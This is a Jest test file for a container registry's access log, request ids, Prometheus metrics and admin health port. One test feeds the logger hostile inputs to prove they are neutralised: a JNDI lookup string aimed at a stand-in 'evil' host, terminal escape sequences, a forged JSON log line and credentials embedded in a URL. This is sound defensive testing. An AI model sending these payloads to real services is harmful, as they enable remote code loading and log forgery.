/** What is told of requests: a line each, an id, and the counts that Prometheus reads. */
import { describe, expect, test } from '@jest/globals'
import { systemClock } from '../../src/clock.ts'
import { refusalLog } from '../../src/http/access-log.ts'
import { admin } from '../../src/http/admin.ts'
import { listen } from '../../src/http/server.ts'
import { digestOf } from '../../src/oci/digest.ts'
import { blobKey } from '../../src/registry/layout.ts'
import { StorageUnavailable, type Driver } from '../../src/storage/driver.ts'
import { memoryDriver } from '../../src/storage/memory.ts'
import { withMetrics } from '../../src/storage/with-metrics.ts'
import { openHealth } from '../../src/telemetry/health.ts'
import { createLog } from '../../src/telemetry/log.ts'
import { createMetrics } from '../../src/telemetry/metrics.ts'
import {
  errorOf,
  imageOf,
  openTestRegistry,
  pushBlob,
  pushImage,
  putManifest,
  startUpload,
  until,
  type TestRegistry,
} from '../support/registry.ts'
import { openRaw, sayRaw } from '../support/raw-connection.ts'

interface Line {
  readonly level: string
  readonly msg: string
  readonly requestId?: string
  readonly [field: string]: unknown
}

type Samples = ReadonlyMap<string, number>

interface Observed extends TestRegistry {
  /** The lines of the log so far, oldest first. */
  readonly requests: () => Line[]
  /** A page of the admin port. */
  readonly page: (path: string, method?: string) => Promise<Response>
  readonly scrape: () => Promise<Samples>
}

/** A registry of which everything is told, and its admin port. */
async function openObserved(
  inner: Driver = memoryDriver(),
  format: 'json' | 'text' = 'json',
): Promise<Observed> {
  const lines: string[] = []
  const log = createLog({ level: 'info', format, destination: { write: (line) => lines.push(line) } })
  const metrics = createMetrics({ version: '1.2.3' })
  const at = await openTestRegistry({
    driver: withMetrics(inner, { clock: systemClock, metrics: metrics.storage }),
    registry: { observer: metrics.content },
    app: { log, access: { clock: systemClock, log, metrics: metrics.http } },
    server: { onRefused: refusalLog({ log, metrics: metrics.http }) },
    mayFail: true,
  })
  const health = openHealth({ clock: systemClock, log: createLog({ level: 'silent' }) })
  const server = await listen(admin({ health, metrics, log }), {
    host: '127.0.0.1',
    port: 0,
    clock: systemClock,
  })
  const page = (path: string, method = 'GET') =>
    fetch(`http://127.0.0.1:${server.port}${path}`, { method, headers: { connection: 'close' } })
  return {
    ...at,
    lines,
    requests: () => lines.map((line) => JSON.parse(line) as Line),
    page,
    scrape: async () => parseSamples(await (await page('/metrics')).text()),
    async [Symbol.asyncDispose]() {
      await at[Symbol.asyncDispose]()
      health.close()
      await server.drain(0)
    },
  }
}

/** The text format of Prometheus: `name{label="value"} number`, every line of it. */
function parseSamples(text: string): Samples {
  const samples = new Map<string, number>()
  for (const line of text.trimEnd().split('\n')) {
    if (line.startsWith('#') || line === '') continue
    const [, name = '', value = ''] = /^([a-z0-9_]+(?:\{.*\})?) (\S+)$/.exec(line) ?? []
    expect([line, name]).not.toEqual([line, ''])
    samples.set(name, Number(value))
  }
  return samples
}

const uuid = /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/

describe('the access log', () => {
  test('has one line for each request, and says what it was and how it ended', async () => {
    await using at = await openObserved()
    const layer = Buffer.alloc(1000, 'x')
    const blob = await pushBlob(at, 'team/app', layer)
    await at.send(`GET /v2/team/app/blobs/${blob}`, { headers: { 'User-Agent': 'containerd/2.4.2' } })
    await at.send('GET /v2/team/app/manifests/none?ns=secret')
    await at.send('GET /nowhere')
    await until(() => at.lines.length === 4)
    const common = {
      level: 'info',
      msg: 'request',
      time: expect.stringMatching(/Z$/),
      requestId: expect.stringMatching(uuid),
      remote: '127.0.0.1',
      durationMs: expect.any(Number),
    }
    expect(at.requests()).toEqual([
      {
        ...common,
        method: 'POST',
        path: '/v2/team/app/blobs/uploads/',
        route: 'end-4, end-11',
        repository: 'team/app',
        status: 201,
        bytesIn: 1000,
        bytesOut: 0,
      },
      {
        ...common,
        method: 'GET',
        path: `/v2/team/app/blobs/${blob}`,
        route: 'end-2',
        repository: 'team/app',
        status: 200,
        bytesIn: 0,
        bytesOut: 1000,
        userAgent: 'containerd/2.4.2',
      },
      {
        ...common,
        method: 'GET',
        path: '/v2/team/app/manifests/none',
        route: 'end-3',
        repository: 'team/app',
        status: 404,
        error: 'MANIFEST_UNKNOWN',
        bytesIn: 0,
        bytesOut: expect.any(Number),
      },
      {
        ...common,
        method: 'GET',
        path: '/nowhere',
        status: 404,
        error: 'NOT_FOUND',
        bytesIn: 0,
        bytesOut: expect.any(Number),
      },
    ])
    expect(at.lines.join('')).not.toContain('secret')
  })

  test('counts bytes that come in chunks, and none that a HEAD did not send', async () => {
    await using at = await openObserved()
    const location = await startUpload(at, 'a')
    const body = async function* () {
      yield Buffer.from('12345')
      yield Buffer.from('678')
    }
    await at.send(`PATCH ${location}`, { body: body() })
    await at.send(`PUT ${location}?digest=${digestOf(Buffer.from('12345678'))}`)
    await at.send(`HEAD /v2/a/blobs/${digestOf(Buffer.from('12345678'))}`)
    await until(() => at.lines.length === 4)
    expect(at.requests().map(({ bytesIn, bytesOut }) => [bytesIn, bytesOut])).toEqual([
      [0, 0],
      [8, 0],
      [0, 0],
      [0, 0],
    ])
  })

  test('what is refused before it is a request has a line with the reason, none of its bytes, and a count', async () => {
    await using at = await openObserved()
    await sayRaw(at.port, 'hunter2\r\n\r\n')
    await sayRaw(at.port, 'GET /v2/hunter2 HTTP/1.1\r\n\r\n')
    const common = {
      level: 'info',
      time: expect.any(String),
      msg: 'refused',
      remote: '127.0.0.1',
      status: 400,
    }
    expect(at.requests()).toEqual([
      { ...common, reason: 'malformed' },
      { ...common, reason: 'no-host' },
    ])
    const samples = await at.scrape()
    expect(samples.get('stowage_http_refused_requests_total{reason="malformed"}')).toBe(1)
    expect(samples.get('stowage_http_refused_requests_total{reason="no-host"}')).toBe(1)
  })

  test('a request that fails for us has a line of its cause beside it, with the same id', async () => {
    const driver = memoryDriver()
    const stat: Driver['stat'] = async (key, options) => {
      if (key.includes('_layers')) throw new StorageUnavailable('the bucket is on fire')
      return driver.stat(key, options)
    }
    await using at = await openObserved({ ...driver, stat })
    const answer = await at.send(`HEAD /v2/a/blobs/${digestOf(Buffer.from(''))}`)
    expect(answer.status).toBe(503)
    await until(() => at.lines.length === 2)
    const requestId = answer.headers['x-request-id']
    expect(at.requests()).toMatchObject([
      { level: 'error', msg: 'a request failed', requestId, err: { message: 'the bucket is on fire' } },
      { level: 'error', msg: 'request', requestId, status: 503, error: 'UNAVAILABLE' },
    ])
    expect(at.lines[1]).not.toContain('on fire')
  })

  test('a client that goes away before its answer is a 499', async () => {
    await using at = await openObserved()
    const location = await startUpload(at, 'a')
    using connection = await openRaw(at.port)
    connection.write(`PATCH ${location} HTTP/1.1\r\nHost: a\r\nContent-Length: 10\r\n\r\nabc`)
    await until(async () => (await at.scrape()).get('stowage_uploads_in_flight') === 1)
    connection[Symbol.dispose]()
    await until(() => at.lines.length === 2)
    expect(at.requests()[1]).toMatchObject({ status: 499, isCut: true, bytesIn: 3, bytesOut: 0 })
    const samples = await at.scrape()
    expect(samples.get('stowage_http_cut_responses_total{method="PATCH",route="end-5"}')).toBe(1)
    expect(samples.get('stowage_http_requests_total{method="PATCH",route="end-5",status="499"}')).toBe(1)
    expect(samples.get('stowage_uploads_in_flight')).toBe(0)
  })

  test('a client that goes away in the middle of a blob has a line that says so', async () => {
    await using at = await openObserved()
    const blob = await pushBlob(at, 'a', Buffer.alloc(32 * 2 ** 20))
    const connection = await openRaw(at.port)
    connection.socket.once('data', () => connection[Symbol.dispose]())
    connection.write(`GET /v2/a/blobs/${blob} HTTP/1.1\r\nHost: a\r\n\r\n`)
    await until(() => at.lines.length === 2)
    expect(at.requests()[1]).toMatchObject({ level: 'info', status: 200, isCut: true })
    expect(at.requests()[1]?.['bytesOut']).toBeLessThan(32 * 2 ** 20)
  })

  test('names the user who was verified, and no credentials', async () => {
    const lines: string[] = []
    const log = createLog({
      level: 'info',
      format: 'json',
      destination: { write: (line) => lines.push(line) },
    })
    await using at = await openTestRegistry({
      app: {
        access: { clock: systemClock, log },
        accessControl: {
          policy: { anonymous: 'none', hasUsers: true },
          identify: (authorization) =>
            Promise.resolve(authorization ? { kind: 'user', name: 'b\u00f6b' } : { kind: 'anonymous' }),
        },
      },
    })
    await at.send('GET /v2/', { headers: { Authorization: 'Basic aHVudGVyMg==' } })
    await at.send('GET /v2/')
    await until(() => lines.length === 2)
    expect(lines.map((line) => JSON.parse(line) as unknown)).toMatchObject([
      { status: 200, user: 'b\\u00f6b' },
      { status: 401, error: 'UNAUTHORIZED', level: 'info' },
    ])
    expect(lines.join('')).not.toMatch(/aHVudGVyMg|hunter2/i)
  })
})

describe('the id of a request', () => {
  test.each(['0123-abc', 'Root=1-67891233-abcdef012345678912345678', 'a'.repeat(128)])(
    'is the one that a proxy gave: %s',
    async (id) => {
      await using at = await openObserved()
      const { headers } = await at.send('GET /v2/', { headers: { 'X-Request-Id': id } })
      expect(headers['x-request-id']).toBe(id)
      await until(() => at.lines.length === 1)
      expect(at.requests()[0]?.requestId).toBe(id)
    },
  )

  test.each(['', ' ', '{"a":1}', 'a b', '-a', '\u009b2J', 'a'.repeat(129)])(
    'is made where that is not sane: %j',
    async (id) => {
      await using at = await openObserved()
      const { headers } = await at.send('GET /v2/', { headers: { 'X-Request-Id': id } })
      expect(headers['x-request-id']).toMatch(uuid)
    },
  )

  test('comes with errors too, and each request has its own', async () => {
    await using at = await openObserved()
    const answers = await Promise.all(
      ['GET /v2/', 'GET /v2/A/tags/list', 'POST /nowhere'].map((target) => at.send(target)),
    )
    const ids = answers.map(({ headers }) => headers['x-request-id'])
    expect(new Set(ids).size).toBe(3)
    for (const id of ids) expect(id).toMatch(uuid)
  })
})

/** What moves a cursor or ends a line; a line's own end aside. */
// oxlint-disable-next-line no-control-regex
const control = /[\x00-\x1f\x7f-\x9f\u2028\u2029]/

describe.each(['json', 'text'] as const)('whatever a client sends, as %s', (format) => {
  test('is one line of the log, bounded, without control characters', async () => {
    await using at = await openObserved(memoryDriver(), format)
    const hostile = [
      ['/v2/', 'curl\u009b2J\u0085x'],
      ['/v2/', `curl ${'x'.repeat(20_000)}`],
      ['/v2/', '{"level":"error","msg":"all is lost"}'],
      ['/v2/%9b/tags/list', '%s%n${jndi:ldap://evil}'],
      [`/v2/${'a'.repeat(20_000)}/tags/list`, ''],
      ['http://user:hunter2@host/v2/?token=hunter2', ''],
      ['http://[/v2/', ''],
    ]
    for (const [path = '', agent = ''] of hostile) {
      const head = `GET ${path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nUser-Agent: ${agent}\r\n\r\n`
      await sayRaw(at.port, Buffer.from(head, 'latin1'))
    }
    await until(() => at.lines.length >= hostile.length)
    expect(at.lines).toHaveLength(hostile.length)
    for (const line of at.lines) {
      expect(line.endsWith('\n')).toBe(true)
      expect(line.slice(0, -1)).not.toMatch(control)
      expect(line.length).toBeLessThan(2_000)
      expect(line).not.toContain('hunter2')
    }
  })
})

describe('/metrics', () => {
  test('has requests by endpoint and status, their times and their bytes', async () => {
    await using at = await openObserved()
    await pushImage(at, 'team/app', 'v1')
    for (let pull = 0; pull < 3; pull++) await at.send('GET /v2/team/app/manifests/v1')
    await at.send('GET /v2/other/manifests/v1')
    await until(() => at.lines.length === 7)
    const samples = await at.scrape()
    const pulls = 'method="GET",route="end-3"'
    expect(samples.get(`stowage_http_requests_total{${pulls},status="200"}`)).toBe(3)
    expect(samples.get(`stowage_http_requests_total{${pulls},status="404"}`)).toBe(1)
    expect(samples.get(`stowage_http_request_duration_seconds_count{${pulls}}`)).toBe(4)
    expect(samples.get(`stowage_http_request_duration_seconds_bucket{le="+Inf",${pulls}}`)).toBe(4)
    expect(samples.get(`stowage_http_sent_bytes_total{${pulls}}`)).toBeGreaterThan(3 * 300)
    const posts = 'method="POST",route="end-4, end-11"'
    expect(samples.get(`stowage_http_received_bytes_total{${posts}}`)).toBe('{}layer'.length)
    expect(samples.get('stowage_http_requests_in_flight')).toBe(0)
    expect(samples.get('stowage_build_info{version="1.2.3"}')).toBe(1)
  })

  test('has the operations on the storage, and the delay of the event loop', async () => {
    await using at = await openObserved()
    await pushImage(at, 'a', 'v1')
    const samples = await at.scrape()
    for (const verb of ['stat', 'read', 'write', 'upload', 'complete']) {
      const count = samples.get(`stowage_storage_operations_total{verb="${verb}",outcome="ok"}`)
      expect([verb, count]).toEqual([verb, expect.any(Number)])
      expect(samples.get(`stowage_storage_operation_duration_seconds_count{verb="${verb}"}`)).toBe(count)
    }
    expect(samples.has('nodejs_eventloop_lag_p99_seconds')).toBe(true)
    expect(samples.has('process_cpu_seconds_total')).toBe(true)
  })

  test('has what the cache of manifests was asked for, and content that was damaged', async () => {
    const driver = memoryDriver()
    {
      await using writer = await openTestRegistry({ driver })
      await pushImage(writer, 'a', 'v1')
      await pushImage(writer, 'a', 'v2', { layers: ['other'] })
    }
    await using at = await openObserved(driver)
    for (let pull = 0; pull < 3; pull++) await at.send('GET /v2/a/manifests/v1')
    const damaged = (await at.send('HEAD /v2/a/manifests/v1')).headers['docker-content-digest']
    const before = await at.scrape()
    expect(before.get('stowage_manifest_cache_lookups_total{result="miss"}')).toBe(1)
    expect(before.get('stowage_manifest_cache_lookups_total{result="hit"}')).toBe(3)
    expect(before.get('stowage_damaged_content_total{kind="manifest"}')).toBe(0)
    const other = digestOf(Buffer.from(JSON.stringify(imageOf(['other']))))
    expect(other).not.toBe(damaged)
    await driver.write(blobKey(other), Buffer.from('{}'))
    expect(errorOf(await at.send('GET /v2/a/manifests/v2'))).toBe('404 MANIFEST_UNKNOWN')
    expect((await at.scrape()).get('stowage_damaged_content_total{kind="manifest"}')).toBe(1)
  })

  test('a blob that was damaged is not sent whole, whether its size is right or not, and counted', async () => {
    const driver = memoryDriver()
    await using writer = await openTestRegistry({ driver })
    const content = Buffer.alloc(1_000_000, 'a layer ')
    const [flipped, grown, right] = [
      await pushBlob(writer, 'a', content),
      await pushBlob(writer, 'a', content.subarray(1)),
      await pushBlob(writer, 'a', content.subarray(2), 'sha512'),
    ]
    await driver.write(blobKey(flipped), Buffer.alloc(1_000_000, 'a Layer '))
    await driver.write(blobKey(grown), Buffer.concat([content.subarray(1), Buffer.from('x')]))
    await using at = await openObserved(driver)
    for (const digest of [flipped, grown]) {
      await expect(at.send(`GET /v2/a/blobs/${digest}`)).rejects.toThrow('aborted')
    }
    for (const _ of [1, 2]) {
      const { body } = await at.send(`GET /v2/a/blobs/${right}`)
      expect(body.equals(content.subarray(2))).toBe(true)
    }
    expect((await at.scrape()).get('stowage_damaged_content_total{kind="blob"}')).toBe(2)
    const causes = at.requests().filter(({ level }) => level === 'error')
    expect(causes).toMatchObject(
      [flipped, grown].map((digest) => ({ err: { message: expect.stringContaining(digest) } })),
    )
  })

  test('has no more series, whatever names, paths and methods clients come up with', async () => {
    await using at = await openObserved()
    const visit = async (name: string) => {
      await putManifest(at, name, 'v1', imageOf([]))
      await at.send(`GET /v2/${name}/manifests/${name}`)
      await at.send(`GET /${name}`)
      await at.send(`PROPFIND /v2/${name}/tags/list`)
      await at.send(`LOCK /${name}`)
      await at.send(`DELETE /v2/${name}/blobs/${digestOf(Buffer.from(name))}`)
    }
    await visit('one')
    await until(() => at.lines.length === 6)
    const names = [...(await at.scrape()).keys()].filter((name) => name.startsWith('stowage_'))
    for (const name of ['two', 'three', 'four']) await visit(name)
    await until(() => at.lines.length === 24)
    const later = [...(await at.scrape()).keys()].filter((name) => name.startsWith('stowage_'))
    expect(later).toEqual(names)
    expect(names.join('\n')).not.toMatch(/\bone\b|PROPFIND|LOCK/)
  })

  test('of two servers in one process are apart', async () => {
    await using one = await openObserved()
    await using two = await openObserved()
    await one.send('GET /v2/')
    await until(() => one.lines.length === 1)
    const name = 'stowage_http_requests_total{method="GET",route="end-1",status="200"}'
    expect((await one.scrape()).get(name)).toBe(1)
    expect((await two.scrape()).has(name)).toBe(false)
  })
})

describe('the admin port', () => {
  test('is not where clients are, and clients are not there', async () => {
    await using at = await openObserved()
    for (const path of ['/metrics', '/healthz', '/readyz']) {
      expect((await at.send(`GET ${path}`)).status).toBe(404)
      expect((await at.page('/v2/')).status).toBe(404)
    }
  })

  test('says that the process is alive, and why it is not ready', async () => {
    await using at = await openObserved()
    const alive = await at.page('/healthz?from=kubelet')
    expect([alive.status, await alive.json()]).toEqual([200, { status: 'alive' }])
    const ready = await at.page('/readyz')
    expect(ready.headers.get('content-type')).toBe('application/json')
    expect([ready.status, await ready.json()]).toEqual([
      503,
      { status: 'not ready', reason: 'starting: the storage has not answered yet', failedChecks: 0 },
    ])
  })

  test('takes GET and HEAD', async () => {
    await using at = await openObserved()
    const head = await at.page('/healthz', 'HEAD')
    expect([head.status, await head.text()]).toEqual([200, ''])
    const post = await at.page('/metrics', 'POST')
    expect([post.status, post.headers.get('allow')]).toEqual([405, 'GET, HEAD'])
    await post.text()
    const other = await at.page('/__proto__')
    expect([other.status, await other.json()]).toEqual([
      404,
      { error: 'there is /healthz, /readyz, /metrics' },
    ])
  })
})
